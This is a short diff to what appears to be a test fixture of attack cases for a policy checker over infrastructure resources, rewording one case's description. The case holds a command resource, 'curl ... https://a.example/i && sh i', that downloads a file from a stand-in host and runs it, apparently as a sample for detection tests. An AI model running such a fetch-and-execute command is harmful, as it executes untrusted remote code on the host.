@@ -157,7 +157,7 @@ export const PODS: readonly Attack[] = [
     [resource("kubernetes:yaml/v2:ConfigFile", { file: "https://a.example/b.yaml" })],
   ],
   [
-    "a command that runs what it fetches",
+    "a program that a command fetches and starts",
     "pinned-charts",
     [resource("command:local:Command", { create: "curl -sfo i https://a.example/i && sh i" })],
   ],
